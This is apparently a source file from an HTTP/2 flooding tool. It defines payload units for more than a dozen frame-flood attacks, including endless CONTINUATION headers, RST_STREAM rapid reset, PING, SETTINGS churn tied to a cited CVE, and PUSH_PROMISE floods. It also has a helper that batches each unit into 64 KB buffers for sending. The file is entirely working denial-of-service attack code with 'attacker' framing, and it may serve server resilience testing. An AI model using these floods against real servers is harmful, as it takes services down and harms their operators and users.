/** Frames that cost nothing to send, over and over. Both a client and a server can send them. */
import {
  continuation,
  data,
  frame,
  frameType,
  goAway,
  headers,
  ping,
  priority,
  repeated,
  reset,
  settingId,
  settings,
  uint32,
  windowUpdate,
} from "../wire/frames.js";
import { informationalResponse, plain } from "../wire/header-blocks.js";

export interface Flood {
  /** Once, before the flood; `streamId` is of a request that is open. */
  readonly opening: (streamId: number) => Uint8Array;
  /** Again and again. */
  readonly unit: (streamId: number) => Uint8Array;
  /** Frames of a unit. */
  readonly frames: number;
  /** Needs a stream whose headers are complete. */
  readonly onStream: boolean;
  /** The attacker does not read what it provokes. */
  readonly deaf?: boolean;
}

const nothing = (): Uint8Array => new Uint8Array(0);

/** A header block that never ends; its fields are sound. */
const endless = (fragment: Uint8Array): Flood => ({
  opening: (streamId) => headers(streamId, plain("x", "y"), 0),
  unit: (streamId) => continuation(streamId, fragment),
  frames: 1,
  onStream: false,
});

const session = (unit: () => Uint8Array, frames = 1): Flood => ({ opening: nothing, unit, frames, onStream: false });

/** Windows of all streams go up and down (CVE-2026-78669). */
const windowChurn = Buffer.concat([
  settings(settingId.INITIAL_WINDOW_SIZE, 1),
  settings(settingId.INITIAL_WINDOW_SIZE, 1 << 20),
]);

const promiseFields = Buffer.concat([uint32(2), plain(":method", "GET")]);

export const floods = {
  continuation: endless(Buffer.concat(Array.from({ length: 256 }, () => plain("x", "y")))),
  "empty-continuation": endless(new Uint8Array(0)),
  settings: session(() => settings(settingId.INITIAL_WINDOW_SIZE, 65_535)),
  "window-churn": session(() => windowChurn, 2),
  ping: session(ping),
  "unread-ping": { ...session(ping), deaf: true },
  "window-update": {
    opening: nothing,
    unit: (streamId) => Buffer.concat([windowUpdate(0, 1), windowUpdate(streamId, 1)]),
    frames: 2,
    onStream: true,
  },
  priority: session(() => Buffer.concat([1001, 1003, 1005, 1007].map((streamId) => priority(streamId, 0))), 4),
  rst: { opening: reset, unit: reset, frames: 1, onStream: true },
  "empty-data": { opening: nothing, unit: (streamId) => data(streamId), frames: 1, onStream: true },
  goaway: session(() => goAway(0x7fffffff, 0)),
  altsvc: session(() => frame(frameType.ALTSVC, 0, 0, Buffer.from("\0\x0bexample.org:443; ma=2592000", "latin1"))),
  informational: {
    opening: nothing,
    unit: (streamId) => headers(streamId, informationalResponse),
    frames: 1,
    onStream: false,
  },
  "push-promise": {
    opening: nothing,
    unit: (streamId) => frame(frameType.PUSH_PROMISE, 0x4, streamId, promiseFields),
    frames: 1,
    onStream: false,
  },
} satisfies Record<string, Flood>;

export type FloodName = keyof typeof floods;

const batchBytes = 64 * 1024;

/** Units of a flood in one buffer, and the number of their frames. */
export function batchOf(flood: Flood, streamId: number): { readonly bytes: Buffer; readonly frames: number } {
  const unit = flood.unit(streamId);
  const bytes = repeated(unit, batchBytes);
  return { bytes, frames: (bytes.length / unit.length) * flood.frames };
}
